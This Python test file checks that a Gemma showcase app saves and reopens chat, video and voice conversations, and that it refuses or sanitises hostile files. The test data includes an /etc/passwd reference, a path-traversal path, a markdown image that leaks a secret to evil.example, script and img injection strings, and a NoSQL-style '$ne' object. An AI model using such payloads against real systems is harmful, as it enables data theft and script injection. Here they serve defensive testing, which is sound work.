"""Conversations you can keep: Download conversation writes JSON and Markdown, Open conversation restores it.

The round trip runs through each tab's own handlers (Chat, Video Q&A, Voice); the browser round trip of a
chat is in test_browser_conversation_file.py. Hostile files are refused with a sentence and change nothing.
"""

from __future__ import annotations

import json
from pathlib import Path

import gradio as gr
import numpy as np
import pytest
from conftest import ROOT

from app.chat import open_chat_conversation
from app.conversation_controls import export_conversation
from app.conversation_file import MISSING_FILE_TITLE, conversation_markdown, restored_conversation
from app.history import normalize_history
from app.reply import NO_ANSWER, THOUGHT_TITLE
from app.safe_markdown import page_html, source_text
from app.time_chips import with_time_chips
from app.video_conversation import MISSING_VIDEO_TITLE, open_video_conversation, video_settings
from app.voice import open_voice_conversation, voice_turns_from_history
from pipelines.media.audio import load_audio

PHOTO = ROOT / "examples" / "detect" / "coffee.jpg"
VIDEO = ROOT / "examples" / "video" / "red_square.mp4"
CLIP = ROOT / "examples" / "voice" / "capital_of_france.wav"
SHARED = ("variant", "quantization", "thinking", "max_new_tokens", "image_budget")
SHARED_VALUES = ("tiny", "fp32", True, 256, 280)

CHAT = [
    {"role": "user", "content": {"path": str(PHOTO)}},
    {"role": "user", "content": "What is in this picture, and is 2 < 3?"},
    {
        "role": "assistant",
        "content": page_html("A cup; checking <the> rim."),
        "metadata": {"title": THOUGHT_TITLE, "status": "done", "duration": 1.3},
    },
    {"role": "assistant", "content": "A cup of coffee."},
    {
        "role": "assistant",
        "content": '`calculator(expression="2<3")`',
        "metadata": {"title": "🛠️ Used calculator", "status": "done"},
    },
    {"role": "assistant", "content": page_html("And yes, 2 < 3.")},
]


def saved_file(tab: str, history, tmp_path, *tab_values, describe=None, named: dict | None = None) -> Path:
    """Download conversation, as the tab's button runs it; `named` are the tab's own named settings."""
    names = (*SHARED, *(named or {}))
    values = (*SHARED_VALUES, *(named or {}).values(), *tab_values)
    json_button, markdown_button = export_conversation(tab, names, describe, history, *values)
    path = Path(json_button.value["path"])
    assert markdown_button.visible and Path(markdown_button.value["path"]).suffix == ".md"
    copy = tmp_path / path.name
    copy.write_bytes(path.read_bytes())
    return copy


def test_a_chat_keeps_every_message_thought_tool_step_figure_and_setting(tmp_path):
    document = json.loads(saved_file("chat", CHAT, tmp_path).read_text(encoding="utf-8"))

    assert document["format"] == "gemma4-showcase-conversation" and document["version"] == 1
    assert document["settings"] == dict(zip(SHARED, SHARED_VALUES, strict=True))
    assert [(m["role"], m["kind"]) for m in document["messages"]] == [
        ("user", "question"),
        ("user", "question"),
        ("assistant", "thought"),
        ("assistant", "answer"),
        ("assistant", "step"),
        ("assistant", "answer"),
    ]
    assert document["messages"][0]["files"] == [{"name": "coffee.jpg", "path": str(PHOTO)}]
    assert document["messages"][2]["metadata"] == {"title": THOUGHT_TITLE, "duration": 1.3}
    assert document["messages"][5]["text"] == "And yes, 2 < 3.", "the model's words, not the display copy"
    markdown = conversation_markdown(document)
    assert "**You:** 📎 coffee.jpg" in markdown and f"> **{THOUGHT_TITLE}** (1.3 s)" in markdown
    assert "**Gemma:** A cup of coffee." in markdown


def test_a_chat_opens_as_it_was_and_the_model_gets_the_same_turns(tmp_path):
    messages, tools = open_chat_conversation(str(saved_file("chat", CHAT, tmp_path, named={"tools": True})))

    # Shown as before; what a person wrote is made safe to show too ("<" escaped, rendered the same).
    assert [message["content"] for message in messages] == [
        page_html(message["content"]) if isinstance(message["content"], str) else message["content"]
        for message in CHAT
    ]
    assert messages[2]["metadata"] == {"title": THOUGHT_TITLE, "duration": 1.3, "status": "done"}
    assert normalize_history(messages) == normalize_history(CHAT)
    assert tools is True


def test_a_video_conversation_brings_back_its_video_and_sampling(tmp_path):
    history = [
        {"role": "user", "content": "When does the square appear?"},
        {
            "role": "assistant",
            "content": page_html("At 00:03.", lambda html: with_time_chips(html, [0.0, 3.0], 5.0)),
        },
    ]
    sampling = (str(VIDEO), 8, 0, 0, 140, False)
    path = saved_file("video", history, tmp_path, *sampling, describe=video_settings)
    assert json.loads(path.read_text())["messages"][1]["text"] == "At 00:03."

    messages, gallery, video, num_frames, start, end, budget, audio, digest = open_video_conversation(
        str(path)
    )

    # Shown as the page shows model text (a signed, sanitized copy); the words are the ones written.
    assert [(m["role"], source_text(m["content"])) for m in messages] == [
        ("user", "When does the square appear?"),
        ("assistant", "At 00:03."),
    ]
    assert (gallery, video, num_frames, start, end, budget, audio) == ([], str(VIDEO), 8, 0, 0, 140, False)
    assert digest == video_settings(*sampling)["video_sha256"]


def test_a_video_that_is_gone_becomes_a_note(tmp_path):
    path = saved_file("video", [], tmp_path, str(VIDEO), 8, 0, 0, 70, False, describe=video_settings)
    document = json.loads(path.read_text())
    document["settings"]["video"] = "/tmp/gradio/gone/clip.mp4"
    path.write_text(json.dumps(document))

    messages, _gallery, video, *_ = open_video_conversation(str(path))

    assert video == gr.skip()
    assert (
        messages[-1]["metadata"] == {"title": MISSING_VIDEO_TITLE} and "clip.mp4" in messages[-1]["content"]
    )


def test_a_voice_conversation_is_heard_again_on_follow_ups(tmp_path):
    history = [
        {"role": "user", "content": {"path": str(CLIP)}},
        {"role": "assistant", "content": "Let me listen.", "metadata": {"title": THOUGHT_TITLE}},
        {"role": "assistant", "content": "Paris."},
        {"role": "user", "content": {"path": str(CLIP)}},
        {"role": "user", "content": "Translate this audio into German."},
        {"role": "assistant", "content": NO_ANSWER},
    ]
    path = saved_file("voice", history, tmp_path, named={"target_language": "German"})

    messages, turns, language = open_voice_conversation(str(path))

    assert language == "German"
    assert [(turn.reply, turn.prompt) for turn in turns] == [
        (turn.reply, turn.prompt) for turn in voice_turns_from_history(history)
    ]
    np.testing.assert_array_equal(turns[0].audio, load_audio(CLIP))
    assert normalize_history(messages) == normalize_history(history)


def test_files_that_are_not_here_or_not_ours_become_notes(tmp_path):
    document = {
        "format": "gemma4-showcase-conversation",
        "version": 1,
        "tab": "chat",
        "messages": [
            {"role": "user", "text": "Look", "files": [{"name": "passwd", "path": "/etc/passwd"}]},
            {"role": "user", "files": [{"name": "<img src=x>.png", "path": "/tmp/gradio/../../etc/hosts"}]},
        ],
    }
    path = tmp_path / "c.json"
    path.write_text(json.dumps(document))

    messages = restored_conversation(str(path), "chat").messages

    assert [message.get("metadata", {}).get("title") for message in messages] == [
        MISSING_FILE_TITLE,
        None,
        MISSING_FILE_TITLE,
    ]
    assert "&lt;img" in messages[2]["content"] and "<img" not in messages[2]["content"]


def test_model_text_in_a_file_is_made_safe_to_show(tmp_path):
    hostile = "![x](https://evil.example/?q=secret) <script>alert(1)</script>"
    document = {
        "format": "gemma4-showcase-conversation",
        "version": 1,
        "tab": "chat",
        "messages": [
            {"role": "user", "text": hostile},
            {"role": "assistant", "text": hostile, "metadata": {"title": "<b>t</b>", "status": "pending"}},
        ],
    }
    path = tmp_path / "c.json"
    path.write_text(json.dumps(document))

    user, thought = restored_conversation(str(path), "chat").messages

    assert user["content"] == thought["content"] == page_html(hostile)
    assert thought["metadata"] == {"title": "&lt;b>t&lt;/b>", "status": "done"}


HOSTILE = {
    "not JSON": b"\x89PNG\r\n",
    "JSON of something else": b'{"hello": "world"}',
    "a newer version": b'{"format": "gemma4-showcase-conversation", "version": 2, "tab": "chat", "messages": []}',
    "a message from nobody": (
        b'{"format": "gemma4-showcase-conversation", "version": 1, "tab": "chat", "messages": [{"role": "system"}]}'
    ),
    "a text that is not text": (
        b'{"format": "gemma4-showcase-conversation", "version": 1, "tab": "chat",'
        b' "messages": [{"role": "user", "text": {"$ne": 1}}]}'
    ),
    "a figure that is not a number": (
        b'{"format": "gemma4-showcase-conversation", "version": 1, "tab": "chat",'
        b' "messages": [{"role": "assistant", "text": "x", "metadata": {"duration": NaN}}]}'
    ),
    "too deep": b"[" * 100_000 + b"]" * 100_000,
    "too many messages": json.dumps(
        {
            "format": "gemma4-showcase-conversation",
            "version": 1,
            "tab": "chat",
            "messages": [{"role": "user", "text": "x"}] * 2001,
        }
    ).encode(),
    "too large": b" " * 5_000_001 + b"{}",
    "another tab's": b'{"format": "gemma4-showcase-conversation", "version": 1, "tab": "voice", "messages": []}',
}


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_a_malformed_or_hostile_file_gets_a_sentence_and_changes_nothing(kind, tmp_path):
    path = tmp_path / "conversation.json"
    path.write_bytes(HOSTILE[kind])

    with pytest.raises(gr.Error) as refused:
        open_chat_conversation(str(path))

    message = refused.value.message
    assert message.endswith(".") and "Traceback" not in message
    expected = (
        "open it there"
        if kind == "another tab's"
        else ("too large" if kind == "too large" else "not a conversation")
    )
    assert expected in message


# --- follow-ups never lock: /chat with a reply split by its thoughts ---------------------------------------


def test_a_chat_follow_up_after_a_split_reply_sends_one_answer(client, use_scripted):
    from conftest import SETTINGS

    model = use_scripted(
        "<|channel>thought\nGreet.<channel|>Hello<|channel>thought\nAdd more.<channel|> there."
    )
    first, _numbers = client.predict(
        {"text": "Hi", "files": []}, history=[], thinking=True, api_name="/chat", **SETTINGS
    )
    model.reply = "Sure."

    second, _numbers = client.predict(
        {"text": "More?", "files": []}, history=first, thinking=True, api_name="/chat", **SETTINGS
    )

    assert second[-1]["content"] == [{"type": "text", "text": "Sure."}]
    sent = model.calls[-1]["messages"]
    assert [message["role"] for message in sent] == ["system", "user", "assistant", "user"]
    assert sent[2]["content"] == [{"type": "text", "text": "Hello\n\nthere."}]
